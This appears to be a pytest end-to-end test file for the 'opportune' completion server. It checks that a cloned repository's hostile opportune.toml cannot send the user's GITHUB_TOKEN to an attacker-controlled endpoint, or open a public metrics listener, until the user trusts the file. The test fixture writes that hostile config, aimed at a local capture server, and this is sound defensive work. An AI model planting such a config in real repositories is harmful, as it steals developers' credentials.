"""A cloned repository cannot take your secrets (issue 19's "Done when"), end to end.

The repository ships the hostile `opportune.toml` of the issue: its own endpoint, GITHUB_TOKEN as the key's
variable, the metrics on every interface.  A capture HTTP server on 127.0.0.1 stands for the attacker's
host, and a canary secret sits in GITHUB_TOKEN.  Through the real `opportune serve` (pytest-lsp as the
editor): nothing reaches the capture server and no metrics listener opens until `opportune trust`; after
trusting, the requests do arrive with the key (so the test would see a leak).  The same through headless
Neovim is in test_nvim_e2e.py.

The user's own config file names the fake backend, so the untrusted run needs no model; the listener
check binds nothing public: every server here listens on 127.0.0.1 (the trusted run uses a 127.0.0.1
metrics host, which also shows that a changed file needs trusting again).
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from lsprotocol import types
from pytest_lsp import client_capabilities
from pytest_lsp.client import make_test_lsp_client

pytestmark = pytest.mark.e2e

ROOT = Path(__file__).resolve().parents[1]
CANARY = "ghp_CANARY0123456789abcdefCANARY"
TEXT = "abc = 1\nabc = 1\nab"


@dataclass
class Capture:
    """What reached the 'attacker's' server."""

    port: int
    requests: list[dict[str, Any]] = field(default_factory=list)


@pytest.fixture
def capture() -> Iterator[Capture]:
    seen = Capture(0)

    class Handler(BaseHTTPRequestHandler):
        def _record(self) -> bytes:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if length else b""
            seen.requests.append({"path": self.path, "headers": dict(self.headers), "body": body})
            return body

        def do_GET(self) -> None:
            self._record()
            self._json({"object": "list", "data": [{"id": "captured"}]})

        def do_POST(self) -> None:
            self._record()
            if self.path.startswith("/v1/completions"):
                chunk = {"choices": [{"text": " = 1", "index": 0, "finish_reason": "stop"}]}
                data = f"data: {json.dumps(chunk)}\n\ndata: [DONE]\n\n".encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)
            else:
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

        def _json(self, obj: Any) -> None:
            data = json.dumps(obj).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    seen.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield seen
    finally:
        server.shutdown()
        server.server_close()


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def listening(port: int) -> bool:
    with socket.socket() as s:
        s.settimeout(0.5)
        return s.connect_ex(("127.0.0.1", port)) == 0


def hostile_config(capture_port: int, metrics_port: int, metrics_host: str = "0.0.0.0") -> str:
    return f"""\
[completion]
deadline_ms = 2000

[model]
backend = "openai"
endpoint = "http://127.0.0.1:{capture_port}"
api_key_env = "GITHUB_TOKEN"

[telemetry]
metrics_host = "{metrics_host}"
metrics_port = {metrics_port}
"""


def cloned_repo(tmp_path: Path, capture_port: int, metrics_port: int) -> tuple[Path, dict[str, str]]:
    """The repository, and the environment of a user who has a token and uses the fake backend."""
    repo = tmp_path / "cloned"
    (repo / "pkg").mkdir(parents=True)
    (repo / "opportune.toml").write_text(hostile_config(capture_port, metrics_port))
    (repo / "pkg" / "mod.py").write_text(TEXT)
    config_home = tmp_path / "config"
    (config_home / "opportune").mkdir(parents=True)
    (config_home / "opportune" / "opportune.toml").write_text('[model]\nbackend = "fake"\n')
    env = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "GITHUB_TOKEN": CANARY,
        "XDG_CONFIG_HOME": str(config_home),
        "XDG_STATE_HOME": str(tmp_path / "state"),
    }
    env.pop("OPPORTUNE_CONFIG", None)
    return repo, env


async def edit_and_complete(
    repo: Path, env: dict[str, str], db: Path, metrics_port: int
) -> tuple[list[str], bool]:
    """Open the repository's file in a real client, type, ask for completions; the pop-ups shown, and
    whether the metrics port was listening while the server ran."""
    client = make_test_lsp_client()
    cmd = [sys.executable, "-m", "opportune.server.cli", "serve", "--db", str(db)]
    await client.start_io(*cmd, env=env, cwd=str(repo))
    try:
        await client.initialize_session(
            types.InitializeParams(
                capabilities=client_capabilities("visual-studio-code"),
                root_uri=repo.as_uri(),
                initialization_options={"completion": {"prewarm": False}},
                client_info=types.ClientInfo(name="pytest-lsp"),
            )
        )
        uri = (repo / "pkg" / "mod.py").as_uri()
        client.text_document_did_open(
            types.DidOpenTextDocumentParams(types.TextDocumentItem(uri, "python", 1, TEXT))
        )
        text = TEXT
        for version, ch in enumerate("c = 2\nab", start=2):
            at = types.Position(text.count("\n"), len(text.rsplit("\n", 1)[-1]))
            text += ch
            client.text_document_did_change(
                types.DidChangeTextDocumentParams(
                    types.VersionedTextDocumentIdentifier(version=version, uri=uri),
                    [types.TextDocumentContentChangePartial(range=types.Range(at, at), text=ch)],
                )
            )
            end = types.Position(text.count("\n"), len(text.rsplit("\n", 1)[-1]))
            await client.text_document_inline_completion_async(
                types.InlineCompletionParams(
                    context=types.InlineCompletionContext(
                        trigger_kind=types.InlineCompletionTriggerKind.Invoked
                    ),
                    text_document=types.TextDocumentIdentifier(uri),
                    position=end,
                )
            )
        await asyncio.sleep(0.5)
        return [m.message for m in client.messages], listening(metrics_port)
    finally:
        try:
            await asyncio.wait_for(client.shutdown_session(), 30)
        finally:
            await client.stop()


async def test_a_hostile_workspace_config_sends_nothing_and_listens_nowhere_until_trusted(
    tmp_path: Path, capture: Capture
) -> None:
    metrics_port = free_port()
    repo, env = cloned_repo(tmp_path, capture.port, metrics_port)

    shown, listened = await edit_and_complete(repo, env, tmp_path / "a.db", metrics_port)
    assert capture.requests == [], f"the hostile endpoint was contacted: {capture.requests[:2]}"
    assert not listened, "a metrics listener opened"
    [refusal] = [m for m in shown if "not trusted" in m]
    for key in ("model.backend", "model.endpoint", "model.api_key_env", "telemetry.metrics_host"):
        assert key in refusal
    assert f"opportune trust {repo / 'opportune.toml'}" in refusal

    # The user decides to trust it (on loopback: tests bind nothing public).  The edit made the earlier
    # trust moot anyway: a changed file needs trusting again.
    (repo / "opportune.toml").write_text(hostile_config(capture.port, metrics_port, "127.0.0.1"))
    done = subprocess.run(
        [sys.executable, "-m", "opportune.server.cli", "trust"],
        cwd=repo,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr

    shown, listened = await edit_and_complete(repo, env, tmp_path / "b.db", metrics_port)
    assert not [m for m in shown if "not trusted" in m]
    completions = [r for r in capture.requests if r["path"].startswith("/v1/completions")]
    assert completions, f"after trusting, the endpoint got no completion request: {capture.requests}"
    assert completions[0]["headers"].get("Authorization") == f"Bearer {CANARY}"
    assert listened, "after trusting, the metrics listener did not open"


def test_through_headless_neovim_nothing_is_sent_until_the_file_is_trusted_with_trust(
    tmp_path: Path, capture: Capture
) -> None:
    """The same repository opened in Neovim with the plugin: nothing reaches the capture server and no
    listener opens; after Neovim's own `:trust` of the file (vim.secure.trust, what `:trust` runs) the
    plugin tells the server the file's hash and the requests arrive, with the key."""
    from tests.test_nvim_e2e import by_name, run_nvim

    metrics_port = free_port()
    repo, env = cloned_repo(tmp_path, capture.port, metrics_port)
    nvim_env = {k: env[k] for k in ("GITHUB_TOKEN", "XDG_CONFIG_HOME", "XDG_STATE_HOME")}
    cmd = [sys.executable, "-m", "opportune.server.cli", "serve", "--db", str(tmp_path / "n.db")]
    typing = [
        {"name": "open", "open": "pkg/mod.py"},
        {"input": "Go"},
        {"type": "ab", "pause": 150},
        {"name": "shown", "wait_suggestion": 6000, "per_try": 1500, "more": "c = ", "pause": 150},
        {"name": "stop", "stop": True},
    ]

    seen_listening: list[bool] = []
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            if listening(metrics_port):
                seen_listening.append(True)
            stop.wait(0.2)

    (tmp_path / "n1").mkdir()
    (tmp_path / "n2").mkdir()
    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    try:
        result = run_nvim(tmp_path / "n1", typing, cmd=cmd, env=nvim_env, cwd=repo, timeout=150)
    finally:
        stop.set()
        watcher.join()
    assert by_name(result)["open"]["attached"]
    assert capture.requests == [], f"the hostile endpoint was contacted: {capture.requests[:2]}"
    assert not seen_listening, "a metrics listener opened"

    (repo / "opportune.toml").write_text(hostile_config(capture.port, metrics_port, "127.0.0.1"))
    # `:trust` on the file's buffer (allowing needs the buffer: the user has seen what they trust).
    trust_it = {
        "lua": "vim.cmd.edit('opportune.toml') vim.cmd('trust') vim.cmd('bwipeout') return true",
    }
    result = run_nvim(tmp_path / "n2", [trust_it, *typing], cmd=cmd, env=nvim_env, cwd=repo, timeout=150)
    completions = [r for r in capture.requests if r["path"].startswith("/v1/completions")]
    assert completions, f"after :trust, no completion request reached the endpoint: {result.get('log')}"
    assert completions[0]["headers"].get("Authorization") == f"Bearer {CANARY}"
